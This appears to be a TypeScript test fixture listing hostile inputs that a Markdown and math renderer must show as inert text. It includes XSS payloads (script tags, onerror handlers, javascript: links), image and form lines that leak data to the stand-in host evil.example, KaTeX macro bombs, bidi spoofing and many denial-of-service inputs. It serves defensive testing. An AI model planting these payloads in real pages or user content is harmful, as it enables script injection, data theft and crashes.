interface Hostile {
  readonly name: string
  readonly text: string
}

const many = (text: string, count: number): string => text.repeat(count)

/** Answers that a page must survive: they are text, and nothing else happens. */
export const HOSTILE: readonly Hostile[] = [
  { name: 'scripts', text: '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<svg/onload=alert(1)>' },
  {
    name: 'frames and forms',
    text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n<base href=//evil.example>\n\n<form action=//evil.example><button>x',
  },
  {
    name: 'styles',
    text: '<style>*{display:none}</style>\n\n<svg><style><img src=x onerror=alert(1)></style></svg>\n\n<math><mtext><mglyph><style><!--</style>',
  },
  {
    name: 'links that run',
    text: '[x](javascript:alert(1)) [x](JaVa\tScRipt:alert(1)) [x](data:text/html,<script>1</script>) [x](vbscript:x) [x](&#106;avascript:alert(1)) [r]\n\n[r]: javascript:alert(1)\n\n<javascript:alert(1)>',
  },
  { name: 'pictures that leak', text: '![](https://evil.example/?q=secret) ![x][p]\n\n[p]: //evil.example/p.png' },
  {
    name: 'names of objects',
    text: '[__proto__]\n\n[constructor]\n\n[__proto__]: https://example.org\n[constructor]: https://example.org\n\n```__proto__\nx\n```',
  },
  {
    name: 'control characters',
    text: 'a\u001b[31mred\u0000\u0007 \u202egnp.exe\u202c \u009b1m \ud800 z\u0335\u0335\u0335\u0335',
  },
  {
    name: 'formulas that link',
    text: '$\\href{javascript:alert(1)}{x}$ $\\url{https://evil.example}$ $\\htmlData{a=b}{x}$ $\\includegraphics{https://evil.example/x.png}$ $$\\def\\a{\\a\\a}\\a$$',
  },
  { name: 'a line of 1 MB', text: many('x', 1_000_000) },
  { name: 'words of 1 MB', text: many('word ', 200_000) },
  { name: 'a fence of 1 MB that is never closed', text: `\`\`\`js\n${many('const a = 1\n', 80_000)}` },
  { name: 'marks that are never closed', text: many('*a ', 20_000) },
  { name: 'brackets', text: many('[', 20_000) },
  { name: 'pictures that are never closed', text: many('![a](', 20_000) },
  { name: 'quotes in quotes', text: many('>', 5000) },
  { name: 'lists in lists', text: Array.from({ length: 500 }, (_, i) => `${many(' ', 2 * i)}- a`).join('\n') },
  {
    name: 'a large table',
    text: `${many('|a', 50)}|\n${many('|-', 50)}|\n${many(`${many('|b', 50)}|\n`, 1000)}`,
  },
  { name: 'growing runs of backticks', text: Array.from({ length: 1000 }, (_, i) => many('`', i % 80)).join(' a ') },
  { name: 'dollars', text: many('$a ', 20_000) },
  { name: 'open formulas', text: many('\\(a ', 20_000) },
  { name: 'a run of 100,000 backticks', text: `${many('`', 100_000)}\nx` },
  {
    name: 'runs of backticks that no run closes',
    text: Array.from({ length: 1200 }, (_, i) => many('`', i + 1)).join('a'),
  },
  { name: 'marks that open and never close', text: many('**a __b ~~c ', 8000) },
  { name: 'stars without a blank', text: many('*', 50_000) },
  { name: 'underscores in words', text: many('a_b_', 20_000) },
  { name: 'a table of one long row', text: `|a|\n|-|\n${many('|b', 50_000)}` },
  { name: 'a table of 20,000 rows', text: `|a|b|\n|-|-|\n${many('|1|2|\n', 20_000)}` },
  { name: 'lists in quotes in lists', text: many('> - ', 3000) },
  { name: 'a list of 20,000 items', text: many('- a\n', 20_000) },
  { name: 'entities', text: many('&amp;&#x3c;script&#62;&bogus;&#0;&#x110000;', 5000) },
  { name: 'addresses one after the other', text: many('https://例え.テスト/ä?q=✓ www.evil.example ', 5000) },
  { name: 'angles', text: many('<a', 30_000) + many('<', 30_000) },
  { name: 'comments that are never closed', text: many('<!-- ', 20_000) },
  {
    name: 'definitions',
    text: Array.from({ length: 10_000 }, (_, i) => `[a${i}]: /x${i}`).join('\n') + '\n\n[a1][a2]',
  },
  { name: 'a link whose target never ends', text: `[x](${many('(', 30_000)}` },
  { name: 'titles that are never closed', text: many('[x](y "', 10_000) },
  { name: 'emoji that join', text: many('👩‍👩‍👧‍👦🏳️‍🌈', 10_000) },
  { name: 'marks on letters', text: `z${many('\u0335', 50_000)}` },
  { name: 'nothing that has a width', text: many('\u200b\u200d\u2060\ufeff', 30_000) },
  { name: 'directions', text: many('\u202e\u2066\u202b', 10_000) },
  { name: 'macros that double', text: `$$\\def\\a{xx}${many('\\edef\\a{\\a\\a}', 30)}\\a$$` },
  { name: 'a formula of braces', text: `$$${many('{', 3000)}${many('}', 3000)}$$` },
  { name: 'many formulas', text: many('$x^2$ ', 3000) },
  { name: 'a huge rule', text: '$\\rule{1e9em}{1e9em}$ $\\hspace{1e9em}$ $\\kern1e9em$' },
  { name: 'a picture inside of the text', text: `![](data:image/svg+xml;base64,${many('A', 100_000)})` },
  { name: 'a line of code of 1 MB', text: `\`\`\`js\n${many('a(', 500_000)}\n\`\`\`\n` },
  { name: 'the name of a language that is none', text: `\`\`\`${many('x', 10_000)}<script>\ncode\n\`\`\`` },
  { name: 'fences of other lengths', text: Array.from({ length: 2000 }, (_, i) => many('~', 3 + (i % 50))).join('\n') },
  { name: 'headings and rules', text: many('# a\n---\n===\n', 10_000) },
  { name: 'carriage returns', text: many('a\r\r\nb\u2028c\u0085', 10_000) },
]
